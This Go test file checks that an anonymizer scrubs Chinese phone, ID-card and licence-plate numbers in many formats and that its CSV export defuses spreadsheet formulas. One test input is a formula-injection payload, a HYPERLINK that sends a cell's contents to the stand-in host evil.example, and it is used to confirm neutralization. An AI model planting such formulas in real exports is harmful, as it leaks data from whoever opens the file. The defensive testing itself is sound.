package evaluation

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/fengcheng/datahub/internal/calendar"
	"github.com/google/uuid"
)

// TestScrubNormalizes: numbers and plates are found however they are typed.
func TestScrubNormalizes(t *testing.T) {
	for _, tc := range []struct{ in, leak string }{
		{"电话１３８１２３４５６７８请回电", "１３８"},
		{"电话138 1234 5678请回电", "5678"},
		{"电话138.1234.5678请回电", "5678"},
		{"电话138-1234-5678请回电", "5678"},
		{"电话１３８　１２３４　５６７８请回电", "５６７８"},
		{"电话+86 138 1234 5678", "5678"},
		{"座机0523.8688.1234", "1234"},
		{"身份证3212 0319 9001 0112 3X", "3X"},
		{"身份证321203.19900101.123X", "123X"},
		{"身份证３２１２０３１９９００１０１１２３Ｘ", "Ｘ"},
		{"车牌苏M 12345违停", "12345"},
		{"车牌苏 M·12345违停", "12345"},
		{"车牌苏Ｍ１２３４５违停", "１２３４５"},
		{"车牌苏m12345违停", "12345"},
		{"车牌苏A·B2C3D违停", "B2C3D"},
	} {
		got := Scrub(tc.in)
		if !strings.Contains(got, Removed) || strings.Contains(got, tc.leak) ||
			strings.Contains(foldWidth(got), foldWidth(tc.leak)) {
			t.Errorf("Scrub(%q) = %q: still holds %q", tc.in, got, tc.leak)
		}
	}
	for _, keep := range []string{"门牌12号", "2025-04-15上午", "共3.5万元", "5楼2单元"} {
		if got := Scrub(keep); got != keep {
			t.Errorf("Scrub(%q) = %q: removed what is not personal", keep, got)
		}
	}
	if got := Scrub("王小明来电", "王小明"); strings.Contains(got, "王小明") {
		t.Errorf("name kept: %q", got)
	}
}

// TestCSVNeutralizesFormulas: a text cell a spreadsheet would run as a
// formula is turned into text; numbers stay numbers.
func TestCSVNeutralizesFormulas(t *testing.T) {
	a := NewAnonymizer([]byte("k"), Profile{KeepText: true, Coordinates: true}, calendar.Default())
	d := time.Date(2025, 4, 15, 2, 0, 0, 0, time.UTC)
	c := &SourceCase{ID: uuid.New(), Kind: "EVENT", MajorCode: "05", MinorCode: "0501", Source: "HOTLINE_12345", Status: "CLOSED",
		Description: `=HYPERLINK("http://evil.example/?"&A1,"点我")`, Lat: -32.49151, Lng: 119.92049,
		Street: "hailing.x", Community: "hailing.x.y", ReportedAt: d}
	_, cv := a.Render(c, nil, nil)
	rec, err := csv.NewReader(strings.NewReader(string(cv) + "\n")).Read()
	if err != nil {
		t.Fatalf("csv %q: %v", cv, err)
	}
	for i, col := range a.Columns() {
		switch col.Name {
		case "description":
			if !strings.HasPrefix(rec[i], "'") {
				t.Errorf("%s = %q: a formula left live", col.Name, rec[i])
			}
		case "lat":
			if rec[i] != "-32.492" {
				t.Errorf("lat = %q: a number must stay a number", rec[i])
			}
		}
	}
}
